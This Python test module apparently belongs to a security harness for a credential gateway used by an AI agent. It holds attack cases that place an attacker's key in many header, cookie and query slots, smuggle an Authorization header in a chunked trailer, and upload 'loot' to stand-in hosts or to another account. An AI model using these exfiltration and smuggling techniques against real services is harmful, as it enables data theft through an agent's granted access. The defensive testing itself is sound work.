"""Credentials that are not this session's, in every place where one can stand."""

import base64

from inside import Family

family = Family("keys", __doc__, control=("api.test", "/v1/"))


def slot(name, headers=None, query=None, beside=True, about=""):
    """One place for a key of the attacker's, with the session's own beside it or not."""
    def run(t):
        key = t.foreign
        made = [(k, v.format(key=key, basic=base64.b64encode(f"user:{key}".encode()).decode(),
                             b64=base64.b64encode(key.encode()).decode())) for k, v in headers or []]
        target = f"/v1/{t.mark}" + ("?" + query.format(key=key) if query else "")
        if beside:
            t.keyed(target, made)
        else:
            t.request("api.test", target, made)
    family.add(name, "parsed", run, about)


GITHUB = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhdHRhY2tlciJ9.c2lnbmF0dXJlLW9mLXNvbWVib2R5"

slot("x-api-key", [("x-api-key", "{key}")], beside=False, about="the known incident: an upload with the attacker's key")
slot("bearer", [("authorization", "Bearer {key}")], beside=False)
slot("bearer-beside", [("authorization", "Bearer {key}")])
slot("basic", [("authorization", "Basic {basic}")])
slot("scheme-token", [("authorization", "token {key}")])
slot("scheme-unknown", [("authorization", "Attacker {key}")])
slot("no-scheme", [("authorization", "{key}")])
slot("proxy-authorization", [("proxy-authorization", "Basic {basic}")])
slot("cookie", [("cookie", "session={key}")])
for header in ["api-key", "x-goog-api-key", "private-token", "job-token", "x-auth-token", "x-amz-security-token",
               "x-attacker-secret", "x-my-key", "ocp-apim-subscription-key", "x-access-token", "x-csrf-token"]:
    slot(header, [(header, "{key}")])
slot("second-of-one-name", [("x-api-key", "{key}")], about="two headers of one name: which does the host take?")
slot("joined-by-comma", [("x-api-key", "{key}, {key}")], beside=False)
slot("known-format-anywhere", [("x-note", GITHUB)])
slot("known-format-user-agent", [("user-agent", f"tool/1 ({GITHUB})")])
slot("known-format-referer", [("referer", f"https://x.test/?t={JWT}")])
slot("websocket-protocol", [("sec-websocket-protocol", f"base64url.bearer.{JWT}")])
for name in ["key", "api_key", "access_token", "token", "sig", "X-Amz-Signature", "X-Amz-Credential", "auth"]:
    slot("query-" + name.lower().replace("_", "-"), query=name + "={key}")
slot("query-encoded-name", query="%6bey={key}")
slot("query-known-format", query=f"page={GITHUB}")


@family.attack()
def userinfo(t):
    """In the target, absolute."""
    t.request("api.test", f"https://user:{t.foreign}@api.test/v1/{t.mark}", [("x-api-key", t.phantom())])


@family.attack()
def trailer(t):
    """Behind a body in chunks."""
    t.raw("api.test", f"POST /v1/{t.mark} HTTP/1.1\r\nHost: api.test\r\nx-api-key: {t.phantom()}\r\nTransfer-Encoding: chunked\r\n"
                      f"Trailer: authorization\r\n\r\n2\r\nhi\r\n0\r\nauthorization: Bearer {t.foreign}{t.mark}\r\n\r\n")


# The head was fine and went on; only the key behind the body must not have.
family["trailer"].effect = "header:authorization"


@family.attack()
def upload_with_their_key(t):
    """The agent's own API, granted, used to carry files to another account."""
    body = b"--b\r\ncontent-disposition: form-data; name=file; filename=a\r\n\r\nloot " + t.mark.encode() + b"\r\n--b--\r\n"
    t.request("api.test", f"/v1/files/{t.mark}", [("x-api-key", t.foreign), ("content-type", "multipart/form-data; boundary=b")],
              "POST", body)


@family.attack()
def upload_with_their_key_h2(t):
    t.h2("api.test", [*t.pseudo("api.test", f"/v1/files/{t.mark}", "POST"), ("x-api-key", t.foreign)], b"loot")


# --- none, and this session's in the wrong place -------------------------------------------------------


@family.attack()
def none(t):
    """Anonymous uploads are uploads."""
    t.request("api.test", f"/v1/{t.mark}", method="POST", body=b"loot")


@family.attack()
def empty(t):
    t.request("api.test", f"/v1/{t.mark}", [("x-api-key", "")])


@family.attack()
def phantom_twice(t):
    t.keyed(f"/v1/{t.mark}", [("authorization", f"Bearer {t.phantom()}")])


@family.attack()
def phantom_in_query(t):
    t.keyed(f"/v1/{t.mark}?copy={t.phantom()}")


@family.attack()
def phantom_in_cookie(t):
    t.keyed(f"/v1/{t.mark}", [("cookie", f"k={t.phantom()}")])


@family.attack()
def phantom_with_more(t):
    t.request("api.test", f"/v1/{t.mark}", [("x-api-key", t.phantom() + "x")])


@family.attack()
def phantom_wrong_slot(t):
    t.request("api.test", f"/v1/{t.mark}", [("x-goog-api-key", t.phantom())])


@family.attack()
def phantom_wrong_scheme(t):
    t.request("api.test", f"/v1/{t.mark}", [("authorization", f"Basic {t.phantom()}")])


@family.attack()
def phantom_of_another_grant(t):
    t.request("api.test", f"/v1/{t.mark}", [("x-api-key", t.phantom("other"))])


@family.attack()
def phantom_to_another_host(t):
    t.request("other.test", f"/v1/{t.mark}", [("x-api-key", t.phantom())])


@family.attack()
def phantom_to_open_host(t):
    """A host without a credential has no use for one."""
    t.request("open.test", f"/pub/{t.mark}", [("x-api-key", t.phantom())])


@family.attack()
def phantom_hidden_to_open_host(t):
    t.request("open.test", f"/pub/{t.mark}", [("x-note", "see " + t.phantom())])


@family.attack()
def foreign_to_open_host(t):
    """Where no credential is granted none may go: an account of the attacker's is a mailbox."""
    t.request("open.test", f"/pub/{t.mark}", [("authorization", f"Bearer {t.foreign}")])
